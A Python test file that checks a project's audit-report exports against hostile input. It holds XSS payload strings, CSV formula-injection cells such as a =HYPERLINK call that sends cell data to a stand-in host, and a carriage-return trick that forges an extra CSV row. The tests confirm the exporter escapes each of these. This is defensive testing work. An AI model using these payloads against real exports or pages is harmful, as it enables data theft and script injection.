"""Adversarial review of what Plant exports for people and auditors: the audit report as
JSON, CSV and HTML, the ledger digest, an entity's history.

What goes into them is partly chosen by others: any write key names a digest's ``kid`` in
``POST /audit/run`` (it comes back in a finding's detail), and anyone with SQL INSERT on
``audit_findings`` can add a row to a running run, which every export lists (marked
``counted: no``).
"""

from __future__ import annotations

import csv
import io
import uuid
from typing import Any

from sqlalchemy import text
from sqlalchemy.orm import Session

from models.audit_runs import summarize_run
from tests.test_audit_record_signed import _started, _steps
from tests.test_report_html import parse

API = "/api/v1"
HOSTILE = "<script>alert(1)</script>\"'><img src=x onerror=alert(2)><a href=\"javascript:alert(3)\">"


def _digest(kid: str) -> dict[str, Any]:
    return {"type": "plant.ledger-digest.v1", "as_of": "2026-01-01T00:00:00Z", "entity_count": 0,
            "heads_root": "0" * 64, "kid": kid, "signature": "AA"}


def _closed_run(engine: Any, keyring: Any, *, kid: str = "unknown-kid", forged: list[dict[str, Any]] = ()) -> uuid.UUID:
    """A run over the industries, closed by Plant, handed ``kid`` in its digest (a digest-invalid
    finding names it) and holding ``forged`` findings INSERTed through SQL while it ran."""
    with Session(engine) as session, session.begin():
        run = _started(session, keyring, {"scope": {"entity_type": "industry"}, "against_digest": _digest(kid)})
        for row in forged:
            session.execute(text(
                "INSERT INTO audit_findings (run_id, entity_type, version, code, severity, rule_id, detail) "
                "VALUES (:run, :entity_type, :version, :code, 'critical', :rule_id, :detail)"),
                {"run": run.id, "entity_type": None, "version": None, "rule_id": None, **row})
        _steps(session, run, keyring, batch_size=500)
        summarize_run(session, run_id=run.id, keyring=keyring)
        return run.id


def _csv_rows(client: Any, run_id: uuid.UUID) -> list[dict[str, str]]:
    response = client.get(f"{API}/audit/export", query_string={"run_id": str(run_id), "format": "csv"})
    assert response.status_code == 200, response.get_data(as_text=True)
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))


def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(client, engine, keyring, seeded) -> None:
    """OWASP "CSV Injection": a cell starting with = + - @ TAB or CR is a formula to Excel and
    LibreOffice (``=HYPERLINK`` sends data away; DDE runs a program). An insider's row
    INSERTed into a running run is listed in the CSV, to be opened by the auditor."""
    forged = [
        {"entity_type": "=1+2", "code": "@SUM(A1)", "rule_id": "+1", "detail": '=HYPERLINK("http://x.invalid/?"&A1,"ok")'},
        {"code": "forged-2", "detail": "-2+3", "version": -1},
        {"code": "forged-3", "detail": "\t=1+1"},
        {"code": "forged-4", "detail": "\r=1+1"},
    ]
    run_id = _closed_run(engine, keyring, forged=forged)
    rows = _csv_rows(client, run_id)
    by_code = {row["code"]: row for row in rows}
    first = by_code["'@SUM(A1)"]
    assert (first["entity_type"], first["rule_id"], first["detail"]) == (
        "'=1+2", "'+1", "'=HYPERLINK(\"http://x.invalid/?\"&A1,\"ok\")")
    assert by_code["forged-2"]["detail"] == "'-2+3"
    assert by_code["forged-2"]["version"] == "-1"  # a number, not a formula: kept as it is
    assert by_code["forged-3"]["detail"] == "'\t=1+1" and by_code["forged-4"]["detail"] == "'\r=1+1"
    assert {row["counted"] for row in rows if row["code"] in ("'@SUM(A1)", "forged-2", "forged-3", "forged-4")} == {"no"}
    # What Plant wrote reads exactly as the API serves it: the guard changes no cell of theirs.
    served = {str(f["finding_id"]): f for f in client.get(f"{API}/audit/runs/{run_id}/findings").get_json()["items"]}
    for row in rows:
        if row["counted"] == "yes":
            finding = served[row["finding_id"]]
            assert {k: row[k] for k in ("code", "detail")} == {k: finding[k] for k in ("code", "detail")}


def test_a_carriage_return_in_a_finding_cannot_start_a_row_of_its_own(client, engine, keyring, seeded) -> None:
    """Python's csv writer (3.11) quotes a cell that holds its own line terminator ("\n"), a
    comma or a quote, but writes a lone CR bare; every reader ends the row there, and what
    follows reads as a row of its own: a finding no one wrote, with an id of the writer's choosing."""
    run_id = _closed_run(engine, keyring, forged=[{"code": "forged\r999999", "detail": "yes\ryes"}])
    served = client.get(f"{API}/audit/runs/{run_id}/findings").get_json()["items"]
    rows = _csv_rows(client, run_id)
    assert [row["finding_id"] for row in rows] == [str(f["finding_id"]) for f in served]
    forged = next(row for row in rows if row["code"].startswith("forged"))
    assert (forged["code"], forged["detail"], forged["counted"]) == ("forged\r999999", "yes\ryes", "no")
    assert all(None not in row and None not in row.values() for row in rows)
